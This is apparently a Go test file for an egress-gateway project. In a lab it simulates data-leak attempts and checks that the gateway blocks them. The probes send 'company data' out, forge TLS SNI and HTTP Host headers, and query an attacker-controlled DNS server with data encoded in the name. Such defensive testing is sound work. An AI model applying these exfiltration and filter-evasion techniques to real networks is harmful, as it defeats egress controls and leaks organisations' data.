package main

import (
	"context"
	"errors"
	"fmt"
	"net/netip"
	"time"

	"github.com/miekg/dns"

	"github.com/bulkhead-dev/bulkhead/tests/lab"
)

// quiet is how long a forbidden attempt waits for an answer, after which there is none.
const quiet = 300 * time.Millisecond

// askFor asks for a name that must not be resolved.
func (s *soak) askFor(name string) func(context.Context, *lab.Host) error {
	return func(ctx context.Context, h *lab.Host) error {
		ctx, cancel := context.WithTimeout(context.WithoutCancel(ctx), patience)
		defer cancel()
		_, err := s.lab.Resolve(ctx, h, name)
		return err
	}
}

// reach sends something to an address and waits for an answer. A handshake is one, too.
func (s *soak) reach(network string, to netip.AddrPort) func(context.Context, *lab.Host) error {
	return func(ctx context.Context, h *lab.Host) error {
		ctx, cancel := context.WithTimeout(context.WithoutCancel(ctx), quiet)
		defer cancel()
		conn, err := h.Dial(ctx, network, to.String())
		if err != nil || network == "tcp" {
			if err == nil {
				conn.Close()
			}
			return err
		}
		defer conn.Close()
		conn.SetDeadline(time.Now().Add(quiet))
		if _, err := conn.Write([]byte("company data")); err != nil {
			return err
		}
		_, err = conn.Read(make([]byte, 64))
		return err
	}
}

// resolveForged pins the address that forgedSNI goes to, so that the gateway takes the connection.
func (s *soak) resolveForged(ctx context.Context, h *lab.Host) error {
	_, err := s.resolve(ctx, h, "agent365.svc.cloud.microsoft")
	return err
}

// forgedSNI claims a permitted name at an address of another one. Nobody else goes there, so
// whatever comes out to it is a leak.
func (s *soak) forgedSNI(_ context.Context, h *lab.Host) error {
	v, err := s.open(h, netip.AddrPortFrom(lab.Agent365, 443), lab.ToolName)
	if err == nil {
		v.close()
	}
	return err
}

// forgedHost asks a permitted website for a page of another one.
func (s *soak) forgedHost(_ context.Context, h *lab.Host) error {
	_, err := s.fetch(h, netip.AddrPortFrom(lab.Mirror, 80), lab.ExfilName, "/drop")
	return err
}

// otherResolver asks the attacker's name server, with something in the name.
func (s *soak) otherResolver(network, name string) func(context.Context, *lab.Host) error {
	return func(_ context.Context, h *lab.Host) error {
		ctx, cancel := context.WithTimeout(context.Background(), quiet)
		defer cancel()
		conn, err := h.Dial(ctx, network, netip.AddrPortFrom(lab.Exfil, 53).String())
		if err != nil {
			return err
		}
		defer conn.Close()
		conn.SetDeadline(time.Now().Add(quiet))
		c := dns.Conn{Conn: conn}
		if err := c.WriteMsg(new(dns.Msg).SetQuestion(dns.Fqdn(name), dns.TypeA)); err != nil {
			return err
		}
		answer, err := c.ReadMsg()
		if err != nil {
			return err
		}
		if answer.Rcode != dns.RcodeSuccess || len(answer.Answer) == 0 {
			return errors.New(dns.RcodeToString[answer.Rcode])
		}
		return nil
	}
}

// watched uses a name that a monitored rule would deny: it must be reached while the rule is
// monitored, and neither by name nor by address while it is enforced.
func (s *soak) watched(ctx context.Context, h *lab.Host) error {
	s.turning.RLock()
	defer s.turning.RUnlock()
	turn := s.turn.Load()
	_, asked := s.resolve(ctx, h, lab.GistName)
	_, reached := s.fetch(h, netip.AddrPortFrom(lab.Gist, 443), lab.GistName, "/share")
	switch {
	case turn%2 == 1 || turn != s.turn.Load():
		return errExcused
	case turn%4 == monitored:
		return errors.Join(asked, reached)
	case asked == nil || reached == nil:
		return fmt.Errorf("denied by an enforced rule, but the question got %v and the connection %v", asked, reached)
	}
	return nil
}
